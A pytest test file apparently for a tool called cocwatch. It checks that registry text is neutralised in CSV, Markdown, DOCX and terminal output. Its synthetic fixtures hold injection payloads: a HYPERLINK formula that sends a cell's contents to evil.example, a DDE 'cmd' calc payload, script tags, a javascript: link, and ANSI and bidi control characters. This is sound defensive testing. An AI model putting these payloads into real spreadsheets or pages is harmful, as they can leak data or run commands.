"""Text from a shared registry cannot become a spreadsheet formula, a forged Markdown line or
raw HTML in what cocwatch prints. Every registry here is synthetic test data."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result

from cocwatch.render.tabular import csv_cell, md_code, md_inline

HOSTILE = """\
version: 1
national:
  targets:
    - {id: t-2021, title: "Synthetic target", cohort: all, percent: 51, due: 2021-03-31,
       set_on: 2019-01-07, source: {url: https://example.org/t}}
trusts:
  - id: evil
    ods: "@XX1"
    name: '=HYPERLINK("https://evil.example/?x="&A1,"Click") <script>alert(1)</script> | [x](https://evil.example)'
    region: "+cmd|' /C calc'!A0"
    lmns: "-2+3"
    figures:
      - cohort: all
        percent: 17.2
        as_of: 2024-03-31
        source: {url: https://example.org/msds, title: "@SUM(1+1)*cmd"}
"""

LIVE_LINK = re.compile(r"(?<!\\)\]\(")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


@pytest.fixture
def hostile(write_registry: Callable[[str], Path]) -> Path:
    return write_registry(HOSTILE)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [["trusts", "--format", "csv"], ["check", "--all", "--format", "csv", "--fail-on", "never"]],
)
def test_csv_cells_that_would_be_formulas_are_neutralised(
    run: Callable[..., Result], hostile: Path, args: list[str]
) -> None:
    result = run("-r", str(hostile), *args)
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert "'+cmd|' /C calc'!A0" in cells
    for cell in cells:
        if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
            assert NUMBER.fullmatch(cell), f"formula left live: {cell!r}"


def test_negative_numbers_stay_numbers_in_csv(run: Callable[..., Result], hostile: Path) -> None:
    result = run("-r", str(hostile), "check", "--all", "--format", "csv", "--fail-on", "never")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["gap"].startswith("-") and NUMBER.fullmatch(rows[0]["gap"])


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_cell_follows_the_owasp_rule(text: str, safe: str) -> None:
    assert csv_cell(text) == safe


@pytest.mark.parametrize("field", ["name", "region", "lmns"])
def test_a_line_break_in_a_one_line_field_is_refused_with_its_line(
    run: Callable[..., Result], write_registry: Callable[[str], Path], field: str
) -> None:
    text = HOSTILE.replace('lmns: "-2+3"', "lmns: ok")
    forged = f'    {field}: "Real\\n## Forged"'
    text = re.sub(rf"^    {field}: .*$", lambda _: forged, text, flags=re.M)
    result = run("-r", str(write_registry(text)), "validate")
    assert result.exit_code == 3, result.stdout + result.stderr
    output = result.stdout + result.stderr
    assert f"trusts[1].{field}: must be on one line" in output
    assert re.search(r"trusts\.yaml:\d+:\d+ \(trust 'evil'\)", output)


def test_notes_and_addresses_may_still_span_lines(
    run: Callable[..., Result], write_registry: Callable[[str], Path]
) -> None:
    text = HOSTILE.replace(
        "    lmns:",
        '    address: "1 High St\\nAnytown"\n    notes: |\n      two\n      lines\n    lmns:',
    )
    assert run("-r", str(write_registry(text)), "validate").exit_code == 0


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markdown_check_output_escapes_registry_text(
    run: Callable[..., Result], hostile: Path
) -> None:
    result = run("-r", str(hostile), "check", "--all", "--format", "markdown", "--fail-on", "never")
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "<script>" not in out and not LIVE_LINK.search(out)
    table = [line for line in out.splitlines() if line.startswith("| ")]
    assert {_unescaped_pipes(line) for line in table} == {8}
    assert r"\<script\>" in out


@pytest.mark.parametrize(
    "args", [["show", "evil", "--format", "markdown"], ["trusts", "--format", "markdown"]]
)
def test_markdown_listings_escape_registry_text(
    run: Callable[..., Result], hostile: Path, args: list[str]
) -> None:
    result = run("-r", str(hostile), *args)
    assert result.exit_code == 0, result.stderr
    assert "<script>" not in result.stdout and not LIVE_LINK.search(result.stdout)


def test_md_helpers() -> None:
    assert md_inline("a\nb | <i>*c*</i> [d](e)") == r"a b \| \<i\>\*c\*\</i\> \[d\](e)"
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x") == "`` `x ``"


LETTER_REGISTRY = """\
version: 1
trusts:
  - id: evil
    ods: XX9
    name: '<script>alert(1)</script> [x](javascript:alert(1)) ![i](http://evil.example/x.png)'
    region: South West
    contacts:
      - role: chief_executive
        name: A Person
        address: |
          # Heading
          - not a list
          1. not a number
          > not a quote
"""


def test_registry_text_in_a_markdown_letter_is_literal(
    run: Callable[..., Result], write_registry: Callable[[str], Path], tmp_path: Path
) -> None:
    registry = write_registry(LETTER_REGISTRY)
    result = run("-r", str(registry), "letter", "board", "evil")
    assert result.exit_code == 0, result.stderr
    letter = result.stdout
    assert not re.search(r"(?<!\\)<", letter) and "\\<script>" in letter
    assert not LIVE_LINK.search(letter.split("## References")[0])
    assert "\\# Heading" in letter and "\\- not a list" in letter and "1\\. not a number" in letter
    out = tmp_path / "letter.docx"
    result = run(
        "-r", str(registry), "letter", "board", "evil", "--format", "docx", "--out", str(out)
    )
    assert result.exit_code == 0, result.stderr
    from docx import Document

    document = Document(str(out))
    texts = [p.text for p in document.paragraphs]
    assert any("# Heading" in t for t in texts)
    assert not any(p.style.name.startswith(("Heading", "List")) and "Heading" in p.text
                   for p in document.paragraphs)  # fmt: skip
    # No masked link: a web address written out plainly may be linked, as it says where it goes.
    targets = [r.target_ref for r in document.part.rels.values() if r.is_external]
    assert not any("javascript" in t for t in targets)
    assert all(any(t in p.text for p in document.paragraphs) for t in targets)
    text = run("-r", str(registry), "letter", "board", "evil", "--format", "txt")
    assert "<script>alert(1)</script>" in text.stdout  # plain text shows it as written
    assert "\\<" not in text.stdout


@pytest.mark.parametrize(
    "value", ["Leeds \u202e Trust", "Leeds \x1b[31m Trust", "Leeds \u2066 Trust"]
)
def test_control_characters_and_direction_marks_in_names_are_refused(
    run: Callable[..., Result], write_registry: Callable[[str], Path], value: str
) -> None:
    text = LETTER_REGISTRY.replace(
        "'<script>alert(1)</script> [x](javascript:alert(1)) ![i](http://evil.example/x.png)'",
        '"' + value.encode("unicode_escape").decode().replace("\\x", "\\x") + '"',
    )
    result = run("-r", str(write_registry(text)), "validate")
    assert result.exit_code == 3, result.stdout + result.stderr
    assert "direction mark" in result.stdout + result.stderr
    assert "\x1b" not in result.stdout + result.stderr and "\u202e" not in result.stdout


def test_an_escape_sequence_in_notes_is_refused(
    run: Callable[..., Result], write_registry: Callable[[str], Path]
) -> None:
    text = LETTER_REGISTRY.replace("name: A Person", 'name: A Person\n        notes: "a \\e[2J b"')
    result = run("-r", str(write_registry(text)), "validate")
    assert result.exit_code == 3, result.stdout + result.stderr
    assert "control character" in result.stdout + result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["sent", "foi", "evil", "--reference", "FOI \x1b[31m1"],
        ["sent", "foi", "evil", "--reference", "FOI\r\n1"],
        ["sent", "foi", "evil", "--reference", "FOI \u202e1"],
        ["replied", "foi", "evil", "--summary", "yes\r\nno"],
    ],
)
def test_one_line_options_refuse_control_characters(
    run: Callable[..., Result], write_registry: Callable[[str], Path], args: list[str]
) -> None:
    result = run("-r", str(write_registry(LETTER_REGISTRY)), *args, "--dry-run")
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "one line of plain text" in result.stderr


def test_a_source_url_with_an_escape_sequence_is_refused(
    run: Callable[..., Result], write_registry: Callable[[str], Path]
) -> None:
    result = run(
        "-r", str(write_registry(LETTER_REGISTRY)), "record", "figure", "evil",
        "--percent", "10", "--as-of", "2025-01-31", "--source-url", "https://x.org/\x1b[31m",
        "--dry-run",
    )  # fmt: skip
    assert result.exit_code in (2, 3), result.stderr
    assert "\x1b" not in result.stderr.replace("\\x1b", "")


def test_the_sanitisers() -> None:
    from cocwatch.core.safe_text import for_terminal, markdown_literal

    assert for_terminal("a\x1b[31mb\u202ec\nd") == "a\\x1b[31mb\\u202ec\nd"
    assert for_terminal("a\r\nb", one_line=True) == "a\\x0d\\x0ab"
    assert markdown_literal("King's College (synthetic)") == "King's College (synthetic)"
    assert markdown_literal("[x](y)") == "\\[x\\](y)"
    assert markdown_literal("a\x1b[2Jb") == "a[2Jb"
